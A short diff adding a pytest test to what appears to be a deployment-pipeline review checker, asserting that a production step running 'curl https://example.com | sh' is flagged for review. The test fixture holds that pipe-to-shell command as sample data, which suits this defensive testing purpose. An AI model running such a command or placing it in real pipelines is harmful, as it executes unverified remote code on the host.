@@ -113,6 +113,12 @@ def test_a_step_that_runs_anything_else_accepts_nothing(head: Json, tmp_path: Pa
     assert not any(each.acknowledged for each in found.findings)
 
 
+def test_a_step_of_a_removals_name_that_runs_anything_else_blocks(tmp_path: Path) -> None:
+    """Its role may become the deploy role of every account that something is removed from."""
+    found = removal(tmp_path, pipeline("prod", "curl https://example.com | sh"), RETAINED)
+    assert blocking(found) == {"Review-PipelineControl"}
+
+
 def test_a_tombstone_accepts_nothing_if_what_its_step_runs_changes_too(tmp_path: Path) -> None:
     head = pipeline("prod", command(keeps_data=True))
     assert blocking(removal(tmp_path, head, QUEUE, removals_change=True)) == {"Review-SecretLost"}
